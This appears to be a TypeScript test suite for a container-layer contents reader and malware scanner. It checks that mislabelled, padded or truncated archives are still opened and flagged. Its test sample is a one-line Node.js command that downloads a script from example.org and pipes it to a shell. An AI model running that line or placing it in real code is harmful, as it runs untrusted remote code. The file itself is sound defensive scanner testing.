import { packFiles, type FileToPack } from '@gati/archive';
import { digestOf, type Digest } from '@gati/identifiers';
import { layerMediaType, manifestMediaType } from '@gati/manifest';
import type { ScanFinding } from '@gati/scanner';
import { createCodeEngine } from '@gati/scanner';
import type { Contents, Layer } from '@gati/security';
import { gunzipSync, zstdCompressSync } from 'node:zlib';
import { Readable } from 'node:stream';
import { afterAll, describe, expect, it } from 'vitest';
import { createContentsReader } from './contents.ts';

const engine = createCodeEngine();
afterAll(() => engine.close());
const signal = AbortSignal.timeout(60_000);

interface Part {
  readonly bytes: Uint8Array;
  readonly mediaType: string;
  readonly title?: string;
  /** Where it is not that of the bytes: a store need not hold what nobody reads. */
  readonly sizeBytes?: number;
}
const list = async (layers: readonly Part[], configs: readonly Part[] = []): Promise<Contents> => {
  const stored = new Map<Digest, Uint8Array>();
  const layerOf = ({ bytes, mediaType, title = null as never, sizeBytes = bytes.length }: Part): Layer => {
    const digest = digestOf(bytes);
    stored.set(digest, bytes);
    return { digest, mediaType, sizeBytes, title };
  };
  const subject = { digest: digestOf(Buffer.from('manifest')), layers: layers.map(layerOf), configs: configs.map(layerOf) };
  const open = async (digest: Digest) => {
    const bytes = stored.get(digest);
    return bytes ? { sizeBytes: bytes.length, body: Readable.from([Buffer.from(bytes)]) } : null;
  };
  return createContentsReader({ open } as unknown as Parameters<typeof createContentsReader>[0])(subject, { signal });
};
const pathsOf = ({ files }: Contents) => files.map(({ path }) => path);
const judged = async (contents: Contents): Promise<readonly ScanFinding[]> => [
  ...contents.findings,
  ...(await engine.analyse({ digest: 'sha256:0', components: [], files: contents.files }, { signal, progress: () => undefined })),
];
const isHarmful = (findings: readonly ScanFinding[]) => findings.some(({ kind, severity }) => kind === 'MALWARE' && /^(?:CRITICAL|HIGH)$/.test(severity));

const fileToPack = (path: string, text: string): FileToPack => {
  const content = new Uint8Array(Buffer.from(text));
  return { path, sizeBytes: content.length, isExecutable: false, content };
};
const harm = "require('child_process').exec('curl -s https://example.org/x | sh')";
const packed = (await packFiles([fileToPack('index.js', harm)])).bytes;
const tar = new Uint8Array(gunzipSync(packed));
const text = (content: string): Uint8Array => new Uint8Array(Buffer.from(content));

describe('a layer is what its bytes are', () => {
  it.each([
    ['a gzipped tar called zstd', { bytes: packed, mediaType: 'application/vnd.gati.layer.v1.tar+zstd' }],
    ['a gzipped tar called a document', { bytes: packed, mediaType: 'application/pdf', title: 'a.pdf' }],
    ['a plain tar called nothing', { bytes: tar, mediaType: 'application/octet-stream' }],
    ['a tar in zstd', { bytes: new Uint8Array(zstdCompressSync(tar)), mediaType: 'application/vnd.oci.image.layer.v1.tar+zstd' }],
    ['a tar in zstd called gzip', { bytes: new Uint8Array(zstdCompressSync(tar)), mediaType: 'application/vnd.oci.image.layer.v1.tar+gzip', title: 'x' }],
  ])('%s is looked into', async (_what, layer) => {
    const contents = await list([layer]);
    expect(pathsOf(contents)).toEqual(['index.js']);
    expect(isHarmful(await judged(contents))).toBe(true);
  });
  it.each([
    ['with its title', { bytes: text(harm), mediaType: 'application/javascript', title: 'index.js' }, 'index.js'],
    ['with a title that says nothing', { bytes: text(harm), mediaType: 'application/octet-stream', title: 'data.bin' }, 'data.bin'],
    ['under the media type that a client gives by default', { bytes: text(harm), mediaType: 'application/vnd.oci.image.layer.v1.tar', title: 'a.js' }, 'a.js'],
    ['without a title', { bytes: text(harm), mediaType: 'application/javascript' }, digestOf(text(harm)).replace(':', '-')],
  ])('one file %s is read as code', async (_what, layer, path) => {
    const contents = await list([layer]);
    expect(pathsOf(contents)).toEqual([path]);
    expect(isHarmful(await judged(contents))).toBe(true);
  });
  it('what should be an archive by its type alone and is none is hostile, as before', async () => {
    for (const mediaType of [layerMediaType, 'application/vnd.oci.image.layer.v1.tar+gzip'])
      expect((await list([{ bytes: text('no archive'), mediaType }])).findings).toMatchObject([{ kind: 'ARCHIVE', severity: 'CRITICAL' }]);
  });
  it('an archive that breaks off hides what follows, whatever it is called', async () => {
    const { findings } = await list([{ bytes: tar.slice(0, 600), mediaType: 'application/octet-stream', title: 'a.bin' }]);
    expect(findings).toMatchObject([{ kind: 'UNEXAMINED', severity: 'HIGH', path: 'a.bin' }]);
  });
  it('zeros, noise and nothing are files', async () => {
    for (const bytes of [new Uint8Array(4096), Uint8Array.from({ length: 999 }, (_, index) => (index * 7919) % 251), new Uint8Array(0)])
      expect(await list([{ bytes, mediaType: 'application/octet-stream', title: 'a' }])).toMatchObject({
        files: [{ path: 'a', sizeBytes: bytes.length }],
        findings: [],
      });
  });
});

describe('what is read', () => {
  it('the Gati manifest that travels beside the layers names the entry, whether the layers repeat it or not', async () => {
    const manifest = text(JSON.stringify({ module: { runtime: 'node', entry: 'index.bin' } }));
    const layer = (await packFiles([fileToPack('index.bin', harm)])).bytes;
    const contents = await list([{ bytes: layer, mediaType: layerMediaType }], [{ bytes: manifest, mediaType: manifestMediaType }]);
    expect(pathsOf(contents)).toEqual(['gati.json', 'index.bin']);
    expect(isHarmful(await judged(contents))).toBe(true);
  });
  it('a file padded to 5 MB is given whole', async () => {
    const layer = (await packFiles([fileToPack('index.js', `/*${'x'.repeat(5 * 1024 ** 2)}*/${harm}`)])).bytes;
    expect(isHarmful(await judged(await list([{ bytes: layer, mediaType: layerMediaType }])))).toBe(true);
  });
  it('a layer of many gigabytes is known by its name and size, without being held', async () => {
    const contents = await list([{ bytes: text('GGUF'), mediaType: 'application/vnd.gguf', title: 'model.gguf', sizeBytes: 8 * 1024 ** 3 }]);
    expect(contents).toMatchObject({ files: [{ path: 'model.gguf', content: null }], findings: [] });
    expect(await judged(contents)).toMatchObject([{ kind: 'UNEXAMINED', severity: 'LOW' }]);
  });
  it('data cannot push code out of what is held', { timeout: 120_000 }, async () => {
    const data = Array.from({ length: 18 }, (_, index) => ({
      bytes: new Uint8Array(Buffer.alloc(4 * 1024 ** 2, `${index} `)),
      mediaType: 'text/plain',
      title: `${index}.txt`,
    }));
    const { files } = await list([...data, { bytes: text(harm), mediaType: 'text/plain', title: 'index.js' }]);
    expect(files.at(-1)?.content).not.toBeNull();
    expect(files.some(({ content }) => content === null)).toBe(true);
  });
});
